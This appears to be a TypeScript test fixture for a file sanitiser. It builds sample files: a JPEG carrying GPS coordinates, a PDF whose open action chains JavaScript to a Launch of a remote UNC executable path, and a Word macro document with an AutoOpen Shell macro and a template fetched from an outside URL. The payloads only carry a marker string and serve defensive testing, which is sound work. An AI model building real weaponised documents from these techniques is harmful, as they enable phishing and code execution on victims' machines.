/** What a field worker sends, with everything in it that must not cross. `marker` is in each active part, so that a leak shows. */
import { PDFDocument, PDFName, PDFString, StandardFonts } from '@cantoo/pdf-lib'
import { BlobWriter, TextReader, Uint8ArrayReader, ZipWriter } from '@zip.js/zip.js'
import sharp from 'sharp'

export const marker = 'SEKISHO-PLANTED-MARKER'

/** A photo turned on its side, taken at the prefectural office, with the marker as its artist. */
export async function photoWithLocation(width = 640, height = 480): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: '#7a8b6f', noise: { type: 'gaussian', mean: 120, sigma: 25 } } })
    .withExif({
      IFD0: { Artist: marker, Orientation: '6' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '35/1 41/1 22/1', GPSLongitudeRef: 'E', GPSLongitude: '139/1 41/1 30/1' },
    })
    .jpeg({ quality: 88 })
    .toBuffer()
}

/** OpenAction → JavaScript → Launch, a document script, and an embedded file. */
export async function hostilePdf(): Promise<Buffer> {
  const document = await PDFDocument.create()
  const font = await document.embedFont(StandardFonts.Helvetica)
  document.addPage([595, 842]).drawText('Damage report', { x: 72, y: 760, size: 24, font })
  await document.attach(Buffer.from(`<script>${marker}</script>`), `${marker}.html`, { mimeType: 'text/html' })
  const { context, catalog } = document
  const launch = context.obj({ S: 'Launch', F: PDFString.of(`\\\\192.0.2.1\\${marker}.exe`) })
  const script = context.obj({
    S: 'JavaScript',
    JS: PDFString.of(`app.launchURL("https://example.com/${marker}")`),
    Next: context.register(launch),
  })
  catalog.set(PDFName.of('OpenAction'), context.register(script))
  const names = context.obj({
    Names: [
      PDFString.of('start'),
      context.register(context.obj({ S: 'JavaScript', JS: PDFString.of(`this.${marker.replaceAll('-', '_')}()`) })),
    ],
  })
  const tree = catalog.lookup(PDFName.of('Names'))
  if (tree && 'set' in tree) (tree as { set(key: PDFName, value: unknown): void }).set(PDFName.of('JavaScript'), context.register(names))
  return Buffer.from(await document.save({ useObjectStreams: false }))
}

const word = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const packages = 'http://schemas.openxmlformats.org/package/2006'

/** A macro document: vbaProject.bin with an AutoOpen, and a template fetched from outside. */
export async function hostileDocm(): Promise<Buffer> {
  const parts: Readonly<Record<string, string | Uint8Array>> = {
    '[Content_Types].xml': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="${packages}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/><Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/></Types>`,
    '_rels/.rels': `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="${packages}/relationships"><Relationship Id="rId1" Type="${office}/officeDocument" Target="word/document.xml"/></Relationships>`,
    'word/document.xml': `<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="${word}"><w:body><w:p><w:r><w:t>毛布 120枚</w:t></w:r></w:p><w:sectPr><w:pgSz w:w="11906" w:h="16838"/></w:sectPr></w:body></w:document>`,
    'word/_rels/document.xml.rels': `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="${packages}/relationships"><Relationship Id="rId1" Type="${office}/settings" Target="settings.xml"/><Relationship Id="rId2" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>`,
    'word/settings.xml': `<?xml version="1.0" encoding="UTF-8"?><w:settings xmlns:w="${word}" xmlns:r="${office}"><w:attachedTemplate r:id="rId1"/></w:settings>`,
    'word/_rels/settings.xml.rels': `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="${packages}/relationships"><Relationship Id="rId1" Type="${office}/attachedTemplate" Target="https://example.com/${marker}.dotm" TargetMode="External"/></Relationships>`,
    'word/vbaProject.bin': Buffer.concat([
      Buffer.from('d0cf11e0a1b11ae1', 'hex'),
      Buffer.alloc(504),
      Buffer.from(`Sub AutoOpen()\r\nShell "${marker}"\r\nEnd Sub`),
    ]),
  }
  const writer = new ZipWriter(new BlobWriter(), { extendedTimestamp: false, keepOrder: true })
  for (const [name, content] of Object.entries(parts)) {
    await writer.add(name, typeof content === 'string' ? new TextReader(content) : new Uint8ArrayReader(content))
  }
  return Buffer.from(await (await writer.close()).arrayBuffer())
}
